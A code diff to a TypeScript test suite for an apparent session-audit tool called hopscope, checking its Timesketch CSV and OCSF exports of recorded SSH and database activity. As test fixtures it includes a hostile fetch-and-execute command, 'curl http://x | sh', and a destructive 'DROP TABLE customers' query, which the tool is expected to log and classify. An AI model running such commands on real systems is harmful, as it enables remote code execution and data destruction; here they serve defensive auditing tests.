@@ -99,35 +99,19 @@ describe('exports', () => {
     const result = rows.find((r) => r.event_type === 'pg.result')!;
     expect(result.masked_fields).toBe('email:email=2;ssn:looks-sensitive:value=2 UNMASKED');
     expect(rows.find((r) => r.event_type === 'approval.decided')).toMatchObject({ approval_id: 'apr-1', policy_action: 'denied' });
+    expect(new Set(rows.map((r) => r.data_type))).toEqual(new Set(rows.map((r) => `hopscope:${String(r.event_type).replace('.', ':')}`)));
+    expect(drop.data_type).toBe('hopscope:pg:query');
     const csv = exported('csv').split('\r\n');
     expect(csv[0]).toBe(TIMESKETCH_COLUMNS.join(','));
     expect(csv.filter(Boolean)).toHaveLength(rows.length + 1);
   });
 
-  it('ocsf events carry the base and class required attributes', () => {
+  it('ocsf has one event per timeline event (the schema checks are in ocsf.test.ts)', () => {
     // eslint-disable-next-line @typescript-eslint/no-explicit-any -- OCSF events are checked field by field below
     const events = lines(exported('ocsf')).map((l) => JSON.parse(l) as Record<string, any>);
-    const classes = new Set(events.map((e) => e.class_uid));
-    expect(classes).toEqual(new Set([SSH_ACTIVITY, DATASTORE_ACTIVITY]));
-    const activities: Record<number, number[]> = { [SSH_ACTIVITY]: [0, 1, 2, 3, 4, 5, 6, 7, 99], [DATASTORE_ACTIVITY]: [0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 99] };
-    for (const e of events) {
-      for (const k of ['activity_id', 'category_uid', 'class_uid', 'severity_id', 'time', 'type_uid']) expect(Number.isInteger(e[k]), k).toBe(true);
-      expect(e.type_uid).toBe(e.class_uid * 100 + e.activity_id);
-      expect(e.category_uid).toBe(Math.floor(e.class_uid / 1000));
-      expect(activities[e.class_uid]).toContain(e.activity_id);
-      expect(e.metadata.version).toMatch(/^1\.\d+\.\d+$/);
-      expect(e.metadata.product.vendor_name).toBe('hopscope');
-      expect(e.metadata.product.name).toBe('hopscope');
-      if (e.class_uid === SSH_ACTIVITY) expect(e.src_endpoint ?? e.dst_endpoint).toBeDefined();
-      else {
-        expect(e.actor.user.name).toBe('contractor-ci');
-        expect(e.src_endpoint).toEqual({ ip: '10.0.0.9', port: 41000 });
-        expect(e.database ?? e.databucket ?? e.table).toBeDefined();
-      }
-    }
-    const drop = events.find((e) => e.query_info?.query_string === 'DROP TABLE customers')!;
-    expect(drop).toMatchObject({ activity_id: 7, status_id: 2, severity_id: 3 });
-    expect(events.find((e) => e.unmapped.command === 'curl http://x | sh')).toMatchObject({ class_uid: SSH_ACTIVITY, activity_id: 5 });
+    expect(events).toHaveLength(lines(exported('jsonl')).length);
+    expect(new Set(events.map((e) => e.class_uid))).toEqual(new Set([SSH_ACTIVITY.uid, DATASTORE_ACTIVITY.uid]));
+    expect(events.find((e) => e.unmapped.command === 'curl http://x | sh')).toMatchObject({ class_uid: SSH_ACTIVITY.uid, activity_id: 6, action_id: 2 });
   });
 
   it('html is one self-contained report with the graph, policy, masking, integrity and custody', () => {
